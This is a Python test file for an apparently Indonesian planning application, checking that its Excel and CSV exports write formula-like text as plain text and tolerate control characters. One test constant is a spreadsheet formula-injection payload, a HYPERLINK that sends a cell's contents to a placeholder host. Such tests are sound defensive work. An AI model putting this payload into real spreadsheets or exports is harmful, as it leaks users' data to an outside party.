"""Text that looks like a formula is exported as text, never as a live
formula, and control characters never break an export."""

from __future__ import annotations

import io

import openpyxl
import pytest
from django.urls import reverse

from selaras.core.spreadsheets import csv_text, looks_like_formula
from selaras.plans.models import Activity
from selaras.plans.services import LocationData
from tests.plans.helpers import add_activity, submit

HOSTILE_TITLE = '=HYPERLINK("http://contoh.invalid/?d="&A1,"Klik")'


def _cell(ws, value):
    return next(c for row in ws.iter_rows() for c in row if c.value == value)


def test_the_plan_export_writes_formula_like_text_as_text_and_imports_it_back(client, plans, cast, reference):
    activity = add_activity(plans, reference, cast.planner_a, title="=SUM(A1:A9)")
    # The services keep such text as typed (it is only text); so does update().
    Activity.objects.filter(pk=activity.pk).update(
        output="+62 811 000", description="@cmd", implementing_office="-Dinas Kesehatan"
    )
    client.force_login(cast.planner_a)
    response = client.get(reverse("plans:plan_export", args=[plans.plan_a.pk]))
    ws = openpyxl.load_workbook(io.BytesIO(response.content))["Kegiatan"]
    for text in ("=SUM(A1:A9)", "+62 811 000", "@cmd", "-Dinas Kesehatan"):
        cell = _cell(ws, text)
        assert cell.data_type == "s" and cell.quotePrefix, text
    assert b"<f>" not in _sheet_xml(response.content, "xl/worksheets/sheet2.xml")

    from selaras.plans.imports import plan_import

    plan_import(plan=plans.plan_a, by=cast.planner_a, file=response.content, name="ekspor.xlsx")
    activity = plans.plan_a.activities.get()
    assert (activity.title, activity.output, activity.description, activity.implementing_office) == (
        "=SUM(A1:A9)",
        "+62 811 000",
        "@cmd",
        "-Dinas Kesehatan",
    )


def _sheet_xml(data: bytes, path: str) -> bytes:
    import zipfile

    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return archive.read(path)


def test_the_region_matrix_writes_a_formula_like_title_as_text(client, plans, cast, reference):
    activity = add_activity(
        plans, reference, cast.planner_a, title=HOSTILE_TITLE, locations=[LocationData(reference.banyumas, 300_000_000)]
    )
    assert activity.code == ""
    submit(plans.plan_a, cast.planner_a)
    client.force_login(cast.coordinator)
    response = client.get(reverse("plans:region_matrix", args=["33"]), {"tahun": 2024, "format": "xlsx"})
    assert response.status_code == 200
    ws = openpyxl.load_workbook(io.BytesIO(response.content)).worksheets[0]
    cell = _cell(ws, HOSTILE_TITLE)
    assert cell.data_type == "s" and cell.quotePrefix
    assert b"<f>" not in _sheet_xml(response.content, "xl/worksheets/sheet1.xml")


@pytest.mark.parametrize("export", ["plan", "matrix"])
def test_control_characters_in_a_title_never_break_an_export(export, client, plans, cast, reference):
    activity = add_activity(plans, reference, cast.planner_a, locations=[LocationData(reference.banyumas, 300_000_000)])
    submit(plans.plan_a, cast.planner_a)
    # Written past the services, as older rows or another path might hold it.
    Activity.objects.filter(pk=activity.pk).update(title="Pelatihan\x0b kader\x1b Posyandu")
    client.force_login(cast.coordinator)
    if export == "plan":
        response = client.get(reverse("plans:plan_export", args=[plans.plan_a.pk]))
    else:
        response = client.get(reverse("plans:region_matrix", args=["33"]), {"tahun": 2024, "format": "xlsx"})
    assert response.status_code == 200
    wb = openpyxl.load_workbook(io.BytesIO(response.content))
    values = {c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)}
    assert any("Pelatihan kader Posyandu" in v for v in values)


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"])
def test_a_csv_field_that_looks_like_a_formula_starts_with_an_apostrophe(text):
    assert looks_like_formula(text)
    assert str(csv_text(text)).startswith("'")


def test_a_plain_csv_field_is_left_alone():
    assert csv_text("Pelatihan kader") == "Pelatihan kader" and csv_text(5) == 5
